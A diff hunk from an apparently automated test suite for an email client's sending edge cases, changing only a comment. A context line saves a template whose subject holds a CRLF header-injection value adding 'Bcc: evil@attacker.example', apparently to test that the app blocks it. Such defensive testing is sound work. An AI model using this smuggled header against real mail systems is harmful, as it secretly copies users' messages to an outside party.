@@ -168,7 +168,7 @@ describe("sending, edge cases", () => {
       await closeDialog();
       await app.value({ type: "sendDeleteDraft", id: draft.id });
     }
-    // A template's subject chosen in the dialog, and a contact's name in the To it fills in.
+    // A template's subject chosen in the dialog.
     const template = await app.value({ type: "sendSaveTemplate", template: { name: "Injected", subject: "Offer\r\nBcc: evil@attacker.example", html: "<p>Hi</p>" } });
     await composeToLena({ from: ANN.address });
     await app.dialog().getByLabel("Template", { exact: true }).selectOption({ label: "Injected" });
